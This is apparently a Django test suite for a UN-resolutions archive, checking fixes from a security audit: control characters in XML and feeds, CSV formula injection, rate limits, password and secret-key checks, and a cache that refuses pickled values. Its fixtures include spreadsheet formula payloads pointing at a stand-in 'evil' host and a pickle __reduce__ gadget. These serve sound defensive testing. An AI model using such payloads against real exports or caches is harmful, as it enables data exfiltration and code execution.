"""Issue 18, the audit's findings that are not about parsing or uploads: each reproduced, then fixed.

Control characters in stored text (feed, Akoma Ntoso), formula injection in CSV, rate limits on exports, the
CSV's cap said in the file, password validators, the secret key, and the cache that must not unpickle.
"""
from __future__ import annotations

import csv
import io
import os
import pickle
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree as ET

import diskcache
import pytest
from django.contrib.auth.password_validation import validate_password
from django.core.cache import cache
from django.core.exceptions import ValidationError

from resolutions import exports
from resolutions.cache_disk import JSONOnlyDisk
from resolutions.checks import check_cache_directory_is_private, check_passwords_and_proxies
from resolutions.exports import spreadsheet_safe
from resolutions.models import Paragraph, Resolution
from resolutions.parsing.text import xml_safe
from resolutions.services import ingest_resolution

DATA = Path(__file__).parent / "data"
ROOT = Path(__file__).resolve().parents[2]
AKN = "{http://docs.oasis-open.org/legaldocml/ns/akn/3.0}"
ATOM = "{http://www.w3.org/2005/Atom}"


def ingest(name: str) -> Resolution:
    return ingest_resolution(source=(DATA / name).read_bytes(), filename=name).resolution


def test_xml_safe_drops_exactly_the_characters_xml_forbids():
    assert xml_safe("a\x00b\x01c\x0bd\x0ce\x1bf\ufffeg\uffffh") == "abcdefgh"
    # Tab, newline and carriage return are XML; so is every real character.
    assert xml_safe("第 1 段\t(a)\n\r人权 «é» \U0001f600") == "第 1 段\t(a)\n\r人权 «é» \U0001f600"


@pytest.mark.django_db
def test_a_control_character_in_a_title_leaves_the_feed_readable(client):
    resolution = ingest("A_HRC_RES_45_32.txt")
    # Stored as an older archive may hold it (the audit's case: the feed answered 500 for every reader).
    Resolution.objects.filter(pk=resolution.pk).update(title="加强\x1b技术合作\x01")
    response = client.get("/feed/")
    assert response.status_code == 200
    root = ET.fromstring(response.content)
    assert root.find(f"{ATOM}entry/{ATOM}title").text == "A/HRC/RES/45/32 (zh) 加强技术合作"


@pytest.mark.django_db
def test_akoma_ntoso_with_control_characters_in_a_paragraph_is_well_formed(client):
    resolution = ingest("A_HRC_RES_45_32.txt")
    op7 = resolution.paragraphs.get(eid="op7")
    Paragraph.objects.filter(pk=op7.pk).update(text="决定\x01继续\x0b审议\x1b此问题。")
    response = client.get("/A/HRC/RES/45/32/zh/akn.xml")
    root = ET.fromstring(response.content)  # raised ParseError before: "not well-formed (invalid token)"
    para = root.find(f".//{AKN}mainBody/{AKN}paragraph[@eId='para_7']")
    assert "".join(para.find(f"{AKN}content").itertext()) == "决定继续审议此问题。"


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=HYPERLINK(\"http://evil\")", "'=HYPERLINK(\"http://evil\")"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("决定继续审议此问题。", "决定继续审议此问题。"),
        ("A/RES/67/161", "A/RES/67/161"),
        (7, "7"),
        (None, ""),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cell, written):
    assert spreadsheet_safe(cell) == written


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.django_db
def test_search_csv_writes_a_formula_paragraph_as_text(client, search_index):
    resolution = ingest("A_HRC_RES_45_32.txt")
    paragraph = resolution.paragraphs.get(eid="op7")
    paragraph.text = "=HYPERLINK(\"http://evil.example/\"&A1,\"受教育权\")"
    paragraph.save()
    from resolutions.search.indexing import reindex_resolutions

    reindex_resolutions({resolution.pk})
    rows = read_csv(client.get("/search.csv", {"q": "HYPERLINK"}))
    header, *found = rows
    assert [row[header.index("eid")] for row in found] == ["op7"]
    assert found[0][header.index("text")] == "'" + paragraph.text


@pytest.mark.django_db
def test_a_capped_csv_says_in_the_file_how_many_it_left_out(client, search_index, monkeypatch):
    ingest("A_RES_67_161.txt")
    ingest("A_HRC_RES_45_32.txt")
    monkeypatch.setattr(exports, "CSV_MAX_ROWS", 3)
    total = client.get("/api/search", {"q": "人权"}).json()["count"]
    assert total > 3
    header, *rows = read_csv(client.get("/search.csv", {"q": "人权"}))
    assert len(rows) == 4  # three paragraphs, then the note
    assert rows[-1] == [
        f"# 共 {total:,} 段，本文件只列出前 3 段 · {total:,} paragraphs match; this file lists the first 3"
        " (the export's limit). Narrow the search to get the rest."
    ]
    # Within the cap there is no note.
    monkeypatch.setattr(exports, "CSV_MAX_ROWS", 10_000)
    header, *rows = read_csv(client.get("/search.csv", {"q": "人权"}))
    assert len(rows) == total and not rows[-1][0].startswith("#")


@pytest.mark.django_db
def test_exports_are_rate_limited_like_search_and_counted_apart(client, settings, search_index):
    ingest("A_HRC_RES_45_32.txt")
    cache.clear()
    settings.SEARCH_RATE_LIMIT = "2/min"
    address = {"REMOTE_ADDR": "198.51.100.40"}
    codes = [client.get("/search.csv", {"q": "人权"}, **address).status_code for _ in range(2)]
    codes.append(client.get("/A/HRC/RES/45/32/zh/akn.xml", **address).status_code)
    assert codes == [200, 200, 429]
    refused = client.get("/search.csv", {"q": "人权"}, **address)
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    # The search page keeps its own count; a reading page is never limited.
    assert client.get("/search/", **address).status_code == 200
    assert client.get("/A/HRC/RES/45/32/zh/", **address).status_code == 200
    cache.clear()


def test_a_one_character_curator_password_is_refused():
    def refusals(password: str) -> list[str]:
        with pytest.raises(ValidationError) as refused:
            validate_password(password)
        return [error.code for error in refused.value.error_list]

    assert refusals("a") == ["password_too_short", "password_too_common"]
    assert refusals("password123") == ["password_too_common"]
    assert refusals("12345678901234") == ["password_entirely_numeric"]
    validate_password("a long curator passphrase")  # a good one passes


def test_check_deploy_warns_when_behind_a_proxy_without_trusted_proxies(settings):
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.TRUSTED_PROXIES = []
    assert [w.id for w in check_passwords_and_proxies(None)] == ["archive.W003"]
    settings.TRUSTED_PROXIES = ["127.0.0.1"]
    assert check_passwords_and_proxies(None) == []
    settings.AUTH_PASSWORD_VALIDATORS = []
    assert [w.id for w in check_passwords_and_proxies(None)] == ["archive.W002"]


def run_check(env: dict[str, str], tmp_path) -> subprocess.CompletedProcess:
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "SEARCH_RATE", "API_RATE"))}
    return subprocess.run(
        [sys.executable, "manage.py", "check"],
        cwd=ROOT,
        env={**clean, "ARCHIVE_VAR_DIR": str(tmp_path), **env},
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_without_debug_and_without_a_secret_key_the_archive_refuses_to_start(tmp_path):
    missing = tmp_path / "no-such-key"
    result = run_check({"DJANGO_DEBUG": "0", "DJANGO_SECRET_KEY_FILE": str(missing)}, tmp_path)
    assert result.returncode == 1
    assert f"No secret key: set DJANGO_SECRET_KEY (50+ random characters), or let scripts/setup create {missing}." in result.stderr

    # The machine's own key file (owner-only, as scripts/setup writes it) is read; DEBUG alone allows the local key.
    key = tmp_path / "secret_key"
    key.write_text("k" * 60 + "\n")
    assert run_check({"DJANGO_DEBUG": "0", "DJANGO_SECRET_KEY_FILE": str(key)}, tmp_path).returncode == 0
    assert run_check({"DJANGO_DEBUG": "1", "DJANGO_SECRET_KEY_FILE": str(missing)}, tmp_path).returncode == 0


class _Planted:
    """What an attacker who can write the cache directory would leave there: unpickling it writes a file."""

    def __init__(self, proof: Path) -> None:
        self.proof = proof

    def __reduce__(self):
        return (Path.write_text, (self.proof, "code ran"))


def test_the_cache_never_unpickles_a_planted_value(tmp_path):
    proof = tmp_path / "proof"
    with diskcache.Cache(tmp_path / "cache") as planted:  # the stock Disk pickles
        planted.set("login-failures:x", _Planted(proof))
    with diskcache.Cache(tmp_path / "cache", disk=JSONOnlyDisk) as ours:
        assert ours.get("login-failures:x") is None
        assert not proof.exists()
        # What the archive keeps there still works: atomic counts and lists of failure times.
        ours.add("rate:/search/:1.2.3.4:60:1", 0)
        assert [ours.incr("rate:/search/:1.2.3.4:60:1") for _ in range(3)] == [1, 2, 3]
        ours.set("login-failures:y", [1_000_000.5, 1_000_001.25])
        assert ours.get("login-failures:y") == [1_000_000.5, 1_000_001.25]
        ours.set("flag", True)
        assert ours.get("flag") is True
    # And it wrote no pickle of its own: the list is stored as JSON text.
    with diskcache.Cache(tmp_path / "cache") as stock:
        stored = dict(stock._sql("SELECT key, value FROM Cache").fetchall())
    assert bytes(stored["login-failures:y"]) == b"[1000000.5, 1000001.25]"
    assert not bytes(stored["login-failures:y"]).startswith(pickle.PROTO)


def test_the_django_cache_uses_the_json_disk_in_an_owner_only_directory(tmp_path):
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "SEARCH_RATE", "API_RATE"))}
    script = (
        "from django.core.cache import cache; import os, stat; from django.conf import settings;"
        "cache.set('k', [1.5]); print(type(cache._cache._shards[0]._disk).__name__, cache.get('k'),"
        " oct(stat.S_IMODE(os.stat(settings.CACHES['default']['LOCATION']).st_mode)))"
    )
    result = subprocess.run(
        [sys.executable, "manage.py", "shell", "-c", script],
        cwd=ROOT, env={**clean, "ARCHIVE_VAR_DIR": str(tmp_path)}, capture_output=True, text=True, timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[-1].split() == ["JSONOnlyDisk", "[1.5]", "0o700"]


def test_a_cache_directory_others_can_write_is_a_check_error(tmp_path, settings):
    directory = tmp_path / "cache"
    directory.mkdir(mode=0o700)
    settings.CACHES = {"default": {"BACKEND": "diskcache.DjangoCache", "LOCATION": str(directory)}}
    assert check_cache_directory_is_private(None) == []
    directory.chmod(0o777)
    errors = check_cache_directory_is_private(None)
    assert [e.id for e in errors] == ["archive.E003"]
    assert "others may write it (mode drwxrwxrwx)" in errors[0].msg
